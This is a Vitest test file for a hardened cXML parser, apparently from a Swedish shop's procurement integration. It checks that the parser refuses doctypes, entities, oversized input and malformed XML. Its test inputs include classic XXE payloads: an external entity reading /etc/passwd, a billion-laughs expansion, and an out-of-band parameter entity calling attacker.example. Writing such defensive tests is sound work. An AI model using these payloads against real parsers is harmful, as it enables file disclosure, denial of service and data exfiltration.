import { describe, expect, it } from 'vitest'
import { CXML_MAX_BYTES, CXML_MAX_DEPTH, readCxmlTree } from './cxml-read'

const CXML_DOCTYPE = '<!DOCTYPE cXML SYSTEM "http://xml.cXML.org/schemas/cXML/1.2.014/cXML.dtd">'

const reasonOf = (xml: string) => {
  const result = readCxmlTree(xml)
  return result.ok ? 'accepted' : result.failure.details?.reason
}

describe('reading a cXML document safely', () => {
  it("accepts cXML's own doctype, in any case of the host and any DTD version, and fetches nothing", () => {
    expect(reasonOf(`<?xml version="1.0" encoding="UTF-8"?>\n${CXML_DOCTYPE}\n<cXML/>`)).toBe('accepted')
    expect(reasonOf(`<!DOCTYPE cXML SYSTEM 'https://xml.cxml.org/schemas/cXML/1.2.060/Fulfill.dtd'><cXML/>`)).toBe(
      'accepted',
    )
    expect(reasonOf('<cXML/>')).toBe('accepted')
  })

  it('keeps elements, attributes and text, with the predefined and numeric references expanded', () => {
    const result = readCxmlTree(
      `${CXML_DOCTYPE}<cXML a="&quot;x&quot;"><B>Tr&#228;skruv &amp; <![CDATA[<spik>]]></B></cXML>`,
    )
    expect(result).toEqual({
      ok: true,
      value: {
        name: 'cXML',
        attributes: { a: '"x"' },
        text: '',
        children: [{ name: 'B', attributes: {}, children: [], text: 'Träskruv & <spik>' }],
      },
    })
  })

  it('refuses the classic XXE: an external entity reading a local file', () => {
    const xxe = `<?xml version="1.0"?>
<!DOCTYPE cXML [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>
<cXML><Request>&xxe;</Request></cXML>`
    expect(reasonOf(xxe)).toBe('doctype')
  })

  it('refuses billion laughs before expanding anything', () => {
    const lol = `<?xml version="1.0"?>
<!DOCTYPE lolz [
  <!ENTITY lol "lol">
  <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<lolz>&lol3;</lolz>`
    expect(reasonOf(lol)).toBe('doctype')
  })

  it('refuses a parameter entity sent out of band', () => {
    const oob = `<?xml version="1.0"?>
<!DOCTYPE cXML [ <!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote; ]>
<cXML/>`
    expect(reasonOf(oob)).toBe('doctype')
  })

  it("refuses an internal subset even behind cXML's own SYSTEM id", () => {
    const sneaky = `<!DOCTYPE cXML SYSTEM "http://xml.cxml.org/schemas/cXML/1.2.014/cXML.dtd" [ <!ENTITY x "y"> ]><cXML>&x;</cXML>`
    expect(reasonOf(sneaky)).toBe('doctype')
  })

  it('refuses any other doctype: another root, another host, a PUBLIC id', () => {
    expect(reasonOf('<!DOCTYPE html><html/>')).toBe('doctype')
    expect(reasonOf('<!DOCTYPE cXML SYSTEM "http://attacker.example/cXML/1.2.014/cXML.dtd"><cXML/>')).toBe('doctype')
    expect(reasonOf('<!DOCTYPE cXML SYSTEM "file:///etc/passwd"><cXML/>')).toBe('doctype')
    expect(
      reasonOf('<!DOCTYPE cXML PUBLIC "-//x//y" "http://xml.cxml.org/schemas/cXML/1.2.014/cXML.dtd"><cXML/>'),
    ).toBe('doctype')
  })

  it('refuses an entity reference no DTD defined, in text or in an attribute', () => {
    expect(reasonOf('<cXML>&xxe;</cXML>')).toBe('entity')
    expect(reasonOf('<cXML a="&xxe;"/>')).toBe('entity')
  })

  it('refuses what is not well-formed XML, and never throws', () => {
    expect(reasonOf('')).toBe('xml')
    expect(reasonOf('<cXML>')).toBe('xml')
    expect(reasonOf('<cXML></cxml>')).toBe('xml')
    expect(reasonOf('inte xml')).toBe('xml')
    expect(reasonOf('<cXML/><cXML/>')).toBe('xml')
  })

  it('bounds the size and the nesting', () => {
    expect(reasonOf(`<cXML>${'x'.repeat(CXML_MAX_BYTES)}</cXML>`)).toBe('size')
    // Counted in UTF-8 bytes, not characters.
    expect(reasonOf(`<cXML>${'å'.repeat(CXML_MAX_BYTES / 2)}</cXML>`)).toBe('size')
    expect(reasonOf(`${'<a>'.repeat(CXML_MAX_DEPTH)}${'</a>'.repeat(CXML_MAX_DEPTH)}`)).toBe('accepted')
    expect(reasonOf(`${'<a>'.repeat(CXML_MAX_DEPTH + 1)}${'</a>'.repeat(CXML_MAX_DEPTH + 1)}`)).toBe('depth')
  })

  it("answers a refusal as the shop's bad request, in Swedish, with the cXML status to send", () => {
    expect(readCxmlTree('<!DOCTYPE x [ <!ENTITY a "b"> ]><x/>')).toEqual({
      ok: false,
      failure: {
        kind: 'invalid',
        error: 'errors.bad_request',
        message: expect.stringContaining('DOCTYPE'),
        details: { reason: 'doctype', status: 400 },
      },
    })
  })
})
